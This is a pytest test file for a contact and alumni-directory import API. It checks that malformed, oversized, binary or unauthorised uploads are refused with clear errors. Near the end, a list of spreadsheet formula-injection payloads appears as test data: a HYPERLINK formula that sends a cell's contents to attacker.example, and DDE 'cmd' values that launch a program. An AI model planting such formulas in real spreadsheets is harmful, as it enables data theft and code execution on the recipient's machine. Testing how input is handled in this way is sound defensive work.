"""Issue #6, section 4: every hostile file gets a 4xx in the documented error shape with a
sentence that says what is wrong, never a 500, and never a write it did not report. Values are
stored as given (formulas included)."""

import asyncio
import csv
import io
from collections.abc import Callable, Iterator
from concurrent.futures import ThreadPoolExecutor
from typing import Any

import httpx
import pytest
from fastapi import FastAPI
from fastapi.testclient import TestClient

from app.config import Settings
from app.main import create_app
from app.models import Contact, DirectoryEntry, Import, Organization
from tests.conftest import api_key, signed_in
from tests.imports.helpers import (
    assert_error,
    count,
    counts,
    csv_bytes,
    make_staff,
    my_contacts,
    rows,
    upload,
)

HEADER = "First Name,Last Name,Email,Company"


def _person(n: int) -> str:
    return f"Person{n},Family{n},p{n}@example.org,Employer {n}"


def _nothing_written(app: FastAPI) -> None:
    assert count(app, Contact) == 0
    assert count(app, Organization) == 0
    assert count(app, DirectoryEntry) == 0


def _latest_import(client: TestClient) -> dict[str, Any]:
    response = client.get("/api/v1/imports", params={"limit": 1})
    assert response.status_code == 200, response.text
    return dict(response.json()["items"][0])


# --- files that cannot be read at all: refused, nothing written ------------------------------

PNG = (b"\x89PNG\r\n\x1a\n\x00\x00\x00\rIHDR\x00\x00\x00\x01\x00\x00\x00\x01\x08\x06\x00\x00"
       b"\x00\x1f\x15\xc4\x89\x00\x00\x00\rIDATx\x9cc\xf8\x0f\x00\x00\x01\x01\x00\x05\x18\xd8"
       b"N\x00\x00\x00\x00IEND\xaeB`\x82")
XLSX_LIKE = b"PK\x03\x04\x14\x00\x06\x00\x08\x00\x00\x00!\x00" + bytes(range(255, -1, -1)) * 8


@pytest.mark.parametrize(("name", "content", "words"), [
    pytest.param("people.csv", b"", ["empty"], id="empty"),
    pytest.param("people.csv", b"\r\n  \r\n\t\r\n", ["empty"], id="only-blank-lines"),
    pytest.param("photo.csv", PNG, ["not a text file"], id="png"),
    pytest.param("people.csv", b"First Name,Email\r\n" + bytes(range(256)) * 8,
                 ["not a text file"], id="random-bytes-with-nuls"),
    pytest.param("people.xlsx", XLSX_LIKE, ["not a text file"], id="zip"),
    pytest.param("people.csv", csv_bytes([HEADER, "Ada,Okafor,ada@example.org,Med\x00tronic",
                                          _person(3)]),
                 ["not a text file"], id="nul-byte"),
])
def test_a_file_that_is_not_text_is_refused(name: str, content: bytes, words: list[str],
                                             app: FastAPI, client: TestClient) -> None:
    signed_in(client)
    body = assert_error(upload(client, name, content), 422, *words)
    assert body["fields"][0]["field"] == "file"
    _nothing_written(app)


def test_ten_thousand_columns_are_refused(app: FastAPI, client: TestClient) -> None:
    signed_in(client)
    header = ",".join(["First Name", "Email", *(f"c{i}" for i in range(9998))])
    content = csv_bytes([header, "Ada,ada@example.org" + ",x" * 9998])
    body = assert_error(upload(client, "wide.csv", content), 422, "10,000 columns", "header")
    assert body["error"] == "file_unreadable" and body["fields"][0]["field"] == "file"
    _nothing_written(app)


def test_a_file_with_no_name_or_email_column_is_refused(app: FastAPI, client: TestClient) -> None:
    signed_in(client)
    assert_error(upload(client, "x.csv", csv_bytes(["a,b,c", "1,2,3"])), 422, "column")
    _nothing_written(app)


# --- files broken part-way: what came before goes in, and the answer says exactly that --------

def _broken(lines: list[str]) -> bytes:
    return ("\n".join(lines) + "\n").encode()


def test_an_unclosed_quote_at_the_end(app: FastAPI, client: TestClient) -> None:
    signed_in(client)
    content = _broken([HEADER, _person(2), _person(3), _person(4), _person(5),
                       'Eve,"Sixth,eve@example.org,Medtronic'])  # line 6
    body = assert_error(upload(client, "people.csv", content), 422, "row 6", "quotation",
                        "before row 6", "4 created")
    assert body["error"] == "file_unreadable"
    assert set(my_contacts(client)) == {f"Person{n} Family{n}" for n in (2, 3, 4, 5)}
    report = _latest_import(client)
    assert report["status"] == "failed" and report["lines_done"] == 5
    assert counts(report) == {"created": 4, "updated": 0, "unchanged": 0, "skipped": 0}
    assert "quotation" in report["problem"]


def test_an_unclosed_quote_in_the_middle(app: FastAPI, client: TestClient) -> None:
    """The quote opened on line 4 swallows the rest of the file: lines 2 and 3 went in, and the
    answer says so; lines 5 and 6 did not (and the answer does not claim they did)."""
    signed_in(client)
    content = _broken([HEADER, _person(2), _person(3),
                       'Cy,"Third,cy@example.org,Medtronic',  # line 4
                       _person(5), _person(6)])
    body = assert_error(upload(client, "people.csv", content), 422, "row 4", "quotation",
                        "before row 4", "2 created")
    assert body["error"] == "file_unreadable"
    assert set(my_contacts(client)) == {"Person2 Family2", "Person3 Family3"}
    report = _latest_import(client)
    assert report["status"] == "failed" and report["lines_done"] == 3
    assert counts(report) == {"created": 2, "updated": 0, "unchanged": 0, "skipped": 0}


def test_a_stray_quote_in_the_middle(app: FastAPI, client: TestClient) -> None:
    signed_in(client)
    content = _broken([HEADER, _person(2), 'Cy,"Third"rd,cy@example.org,Medtronic',  # line 3
                       _person(4)])
    assert_error(upload(client, "people.csv", content), 422, "row 3", "before row 3",
                 "1 created")
    assert set(my_contacts(client)) == {"Person2 Family2"}


def test_an_unclosed_quote_in_a_large_directory_file(app: FastAPI, client: TestClient) -> None:
    """Past a whole batch: the rows before the broken line are all in, none after it, and the
    report says which."""
    make_staff(app, client)
    lines = ["Constituent ID,First Name,Last Name,Preferred Email"]
    lines += [f"C{n},First{n},Last{n},a{n}@example.org" for n in range(2, 12_002)]
    lines.append('C12002,"Broken,Quote,b@example.org')  # line 12,002
    lines += [f"C{n},First{n},Last{n},a{n}@example.org" for n in range(12_003, 12_103)]
    response = upload(client, "alumni.csv", _broken(lines), "directory")
    body = assert_error(response, 422, "row 12002", "before row 12002", "12000 created")
    assert body["error"] == "file_unreadable"
    ids = {e.external_id for e in rows(app, DirectoryEntry)}
    assert ids == {f"C{n}" for n in range(2, 12_002)}
    report = _latest_import(client)
    assert report["status"] == "failed" and report["lines_done"] == 12_001
    assert report["created"] == 12_000


def test_a_one_megabyte_field(app: FastAPI, client: TestClient) -> None:
    signed_in(client)
    content = _broken([HEADER, _person(2), f"Big,Note,big@example.org,{'x' * 1_048_576}",
                       _person(4)])
    body = assert_error(upload(client, "people.csv", content), 422, "row 3", "longer",
                        "before row 3", "1 created")
    assert body["error"] == "file_unreadable"
    assert set(my_contacts(client)) == {"Person2 Family2"}


def test_a_one_megabyte_field_on_the_first_line(app: FastAPI, client: TestClient) -> None:
    signed_in(client)
    content = _broken([f"First Name,{'x' * 1_048_576}", "Ada,y"])
    assert_error(upload(client, "people.csv", content), 422, "row 1", "longer")
    _nothing_written(app)




def _late_nul_file() -> bytes:
    """Line 2 pads the file past 64 KB in a column no field takes; line 3 holds a NUL."""
    content = _broken([HEADER + ",Padding", _person(2) + "," + "p" * 70_000,
                       "Nul,Byte\x00Here,nul@example.org,Medtronic,", _person(4) + ","])
    assert content.index(b"\x00") > 64 * 1024
    return content


@pytest.mark.parametrize("target", ["contacts", "directory"])
def test_a_nul_byte_late_in_a_csv_is_refused(target: str, app: FastAPI,
                                              client: TestClient) -> None:
    make_staff(app, client) if target == "directory" else signed_in(client)
    assert_error(upload(client, "people.csv", _late_nul_file(), target), 422, "row 3", "nul")
    assert count(app, Contact) + count(app, DirectoryEntry) <= 1




@pytest.mark.parametrize("target", ["contacts",
                                    "directory"])
def test_a_nul_byte_late_in_a_csv_is_never_stored_unreported(
    target: str, app: FastAPI, client: TestClient
) -> None:
    """Whatever the answer, never a 500, no NUL stored, and the line with it accounted for."""
    make_staff(app, client) if target == "directory" else signed_in(client)
    response = upload(client, "people.csv", _late_nul_file(), target)
    if response.status_code == 201:
        report = response.json()
        assert counts(report) == {"created": 2, "updated": 0, "unchanged": 0, "skipped": 1}
        assert [e["row"] for e in report["errors"]] == [3]
        assert "nul" in report["errors"][0]["message"].lower()
        assert client.get(report["errors_csv"]).status_code == 200
    else:
        assert_error(response, 422, "row 3")
    names = ({f"{e.first_name} {e.last_name}" for e in rows(app, DirectoryEntry)}
             | {f"{c.first_name} {c.last_name}" for c in rows(app, Contact)})
    assert names <= {"Person2 Family2", "Person4 Family4"}




@pytest.mark.parametrize("content", [
    pytest.param(b"[" * 100_000 + b"]" * 100_000, id="array"),
    pytest.param(b'{"first_name": "Ada"}\n' + b'{"notes": ' + b"[" * 100_000 + b"}\n",
                 id="one-object-per-line"),
])
def test_deeply_nested_json_is_refused(content: bytes, app: FastAPI) -> None:
    with TestClient(app, raise_server_exceptions=False) as client:
        signed_in(client)
        assert_error(upload(client, "people.json", content), 422, "line")
    _nothing_written(app)


def test_a_vcf_file_without_any_card_says_so(app: FastAPI, client: TestClient) -> None:
    signed_in(client)
    response = upload(client, "contacts.vcf", csv_bytes([HEADER, _person(2)]))
    if response.status_code == 201:  # read as the CSV it is
        assert response.json()["created"] == 1, response.text
    else:  # or refused, saying why
        assert_error(response, 422, "vcard")


def test_a_vcard_cut_short_keeps_what_it_holds_and_says_so(client: TestClient) -> None:
    signed_in(client)
    content = b"BEGIN:VCARD\r\nVERSION:3.0\r\nFN:Ada Lovelace\r\nEMAIL:ada@example.org\r\n"
    report = upload(client, "cards.vcf", content).json()
    assert (report["created"], report["status"]) == (1, "completed")
    assert "END:VCARD" in report["warnings"][0]["message"]
    assert my_contacts(client)["Ada Lovelace"]["email"] == "ada@example.org"


# --- sizes -----------------------------------------------------------------------------------

@pytest.fixture
def small_app(make_settings: Callable[..., Settings]) -> Iterator[FastAPI]:
    """Uploads over 2 KB refused; other bodies keep the 1 MB default."""
    application = create_app(make_settings(import_max_bytes=2048))
    yield application
    application.state.engine.dispose()


def test_an_upload_over_the_size_setting_is_refused(small_app: FastAPI) -> None:
    with TestClient(small_app) as client:
        signed_in(client)
        content = csv_bytes([HEADER, *(_person(n) for n in range(2, 300))])
        assert len(content) > 10_000
        body = assert_error(upload(client, "people.csv", content), 413, "2,048")
        assert body["error"] == "payload_too_large"
        small = upload(client, "people.csv", csv_bytes([HEADER, _person(2)]))
        assert small.status_code == 201, small.text
        # A JSON body keeps its own limit (max_request_bytes, 1 MB).
        big = {"first_name": "Ada", "notes": "x" * 1_100_000}
        assert_error(client.post("/api/v1/contacts", json=big), 413, "1,048,576")
        assert count(small_app, Contact) == 1


def test_uploads_have_their_own_limit(make_settings: Callable[..., Settings]) -> None:
    application = create_app(make_settings(max_request_bytes=1024, import_max_bytes=8192))
    try:
        with TestClient(application) as client:
            signed_in(client)
            content = csv_bytes([HEADER, *(_person(n) for n in range(2, 100))])
            assert 2048 < len(content) < 6000
            response = upload(client, "people.csv", content)
            assert response.status_code == 201, response.text
            assert response.json()["created"] == 98
            note = {"first_name": "Ada", "notes": "x" * 3000}
            assert_error(client.post("/api/v1/contacts", json=note), 413, "1,024")
    finally:
        application.state.engine.dispose()


def _multipart(content: bytes, target: str = "contacts") -> tuple[str, bytes]:
    request = httpx.Request("POST", "http://testserver/api/v1/imports",
                            files={"file": ("people.csv", content)},
                            data={"target": target, "format": "auto", "dry_run": "false"})
    return request.headers["content-type"], request.read()


def _asgi_post(app: FastAPI, path: str, headers: dict[str, str],
               chunks: list[bytes]) -> tuple[int, bytes, int]:
    """POST a body in chunks without a Content-Length (as a chunked upload arrives); the
    status, the body answered and how many chunks the app pulled."""
    pulled = 0
    sent: list[dict[str, Any]] = []

    async def receive() -> dict[str, Any]:
        nonlocal pulled
        if pulled < len(chunks):
            pulled += 1
            return {"type": "http.request", "body": chunks[pulled - 1],
                    "more_body": pulled < len(chunks)}
        await asyncio.sleep(0)
        return {"type": "http.disconnect"}

    async def send(message: dict[str, Any]) -> None:
        sent.append(message)

    scope = {
        "type": "http", "asgi": {"version": "3.0"}, "http_version": "1.1", "method": "POST",
        "scheme": "http", "path": path, "raw_path": path.encode(), "query_string": b"",
        "root_path": "", "client": ("127.0.0.1", 50000), "server": ("testserver", 80),
        "headers": [(k.lower().encode(), v.encode()) for k, v in
                    {"host": "testserver", "transfer-encoding": "chunked", **headers}.items()],
    }
    # In a thread of its own: the browser tests leave an event loop in this one.
    with ThreadPoolExecutor(1) as pool:
        pool.submit(asyncio.run, app(scope, receive, send)).result()  # type: ignore[arg-type]
    start = next(m for m in sent if m["type"] == "http.response.start")
    body = b"".join(m.get("body", b"") for m in sent if m["type"] == "http.response.body")
    return int(start["status"]), body, pulled


def test_a_chunked_upload_is_refused_before_it_is_read_whole(small_app: FastAPI) -> None:
    with TestClient(small_app) as client:
        signed_in(client)
        key = api_key(client, ["contacts:write"])
    content_type, body = _multipart(csv_bytes([HEADER, *(_person(n) for n in range(2, 300))]))
    chunks = [body[i:i + 1024] for i in range(0, len(body), 1024)]
    assert len(chunks) >= 10
    status, answer, pulled = _asgi_post(
        small_app, "/api/v1/imports",
        {"content-type": content_type, "authorization": f"Bearer {key}"}, chunks)
    assert status == 413, answer
    assert b"payload_too_large" in answer
    assert pulled <= 4, f"read {pulled} of {len(chunks)} chunks before refusing"
    assert count(small_app, Contact) == 0
    assert count(small_app, Import) == 0


# --- who may write where ---------------------------------------------------------------------

ALUMNI = csv_bytes(["Constituent ID,First Name,Last Name,Preferred Email",
                    "C1,Ada,Okafor,ada@example.org"])


def test_a_student_cannot_import_into_the_directory(app: FastAPI, client: TestClient) -> None:
    signed_in(client)
    for dry_run in (False, True):
        response = upload(client, "alumni.csv", ALUMNI, "directory", dry_run=dry_run)
        body = assert_error(response, 403, "staff")
        assert body["error"] == "staff_only"
    _nothing_written(app)
    assert count(app, Import) == 0


def test_an_api_key_needs_the_scope_of_its_target(
    app: FastAPI, make_client: Callable[[], TestClient]
) -> None:
    student = make_client()
    signed_in(student)
    reader = api_key(student, ["contacts:read"])
    writer = api_key(student, ["contacts:write"])
    keyed = make_client()
    people = csv_bytes([HEADER, _person(2)])
    body = assert_error(upload(keyed, "people.csv", people,
                               headers={"Authorization": f"Bearer {reader}"}), 403,
                        "contacts:write")
    assert body["error"] == "missing_scope"
    assert count(app, Contact) == 0 and count(app, Import) == 0
    allowed = upload(keyed, "people.csv", people, headers={"Authorization": f"Bearer {writer}"})
    assert allowed.status_code == 201, allowed.text
    assert count(app, Contact) == 1

    staff = make_client()
    make_staff(app, staff)
    contacts_only = api_key(staff, ["contacts:write"])
    directory = api_key(staff, ["directory:write"])
    assert_error(upload(keyed, "alumni.csv", ALUMNI, "directory",
                        headers={"Authorization": f"Bearer {contacts_only}"}), 403,
                 "directory:write")
    assert count(app, DirectoryEntry) == 0
    done = upload(keyed, "alumni.csv", ALUMNI, "directory",
                  headers={"Authorization": f"Bearer {directory}"})
    assert done.status_code == 201, done.text
    assert count(app, DirectoryEntry) == 1


def test_an_unknown_target_or_format_is_a_validation_error(app: FastAPI,
                                                           client: TestClient) -> None:
    signed_in(client)
    people = csv_bytes([HEADER, _person(2)])
    response = client.post("/api/v1/imports", files={"file": ("p.csv", people)},
                           data={"target": "users"})
    assert [f["field"] for f in assert_error(response, 422)["fields"]] == ["target"]
    response = client.post("/api/v1/imports", files={"file": ("p.csv", people)},
                           data={"target": "contacts", "format": "xls"})
    assert [f["field"] for f in assert_error(response, 422)["fields"]] == ["format"]
    no_file = client.post("/api/v1/imports", data={"target": "contacts"})
    assert [f["field"] for f in assert_error(no_file, 422)["fields"]] == ["file"]
    _nothing_written(app)


# --- values are stored as given ---------------------------------------------------------------

FORMULAS = ['=HYPERLINK("http://attacker.example/?x="&A1,"click")', "+cmd|' /C calc'!A0",
            "@SUM(1+1)*cmd|' /C calc'!A0", "-2+3"]


def _formula_file(header: list[str], people: list[list[str]]) -> bytes:
    out = io.StringIO()
    csv.writer(out, lineterminator="\r\n").writerows([header, *people])
    return out.getvalue().encode()


def test_formula_cells_are_stored_exactly_as_given_in_contacts(client: TestClient) -> None:
    signed_in(client)
    content = _formula_file(["First Name", "Last Name", "Email", "Job Title", "Notes"], [
        ["Ada", "One", "ada@example.org", FORMULAS[0], FORMULAS[1]],
        ["Bo", "Two", "bo@example.org", FORMULAS[2], FORMULAS[3]],
    ])
    response = upload(client, "people.csv", content)
    assert response.status_code == 201, response.text
    assert response.json()["created"] == 2
    mine = my_contacts(client)
    assert (mine["Ada One"]["title"], mine["Ada One"]["notes"]) == (FORMULAS[0], FORMULAS[1])
    assert (mine["Bo Two"]["title"], mine["Bo Two"]["notes"]) == (FORMULAS[2], FORMULAS[3])


def test_formula_cells_are_stored_exactly_as_given_in_the_directory(
    app: FastAPI, client: TestClient
) -> None:
    make_staff(app, client)
    content = _formula_file(["Constituent ID", "First Name", "Last Name", "Employer",
                             "Job Title", "Industry", "Major"], [
        ["C1", "Ada", "One", *FORMULAS],
    ])
    response = upload(client, "alumni.csv", content, "directory")
    assert response.status_code == 201, response.text
    entry = client.get("/api/v1/directory", params={"limit": 5}).json()["items"][0]
    assert [entry[f] for f in ("organization_name", "title", "industry", "major")] == FORMULAS
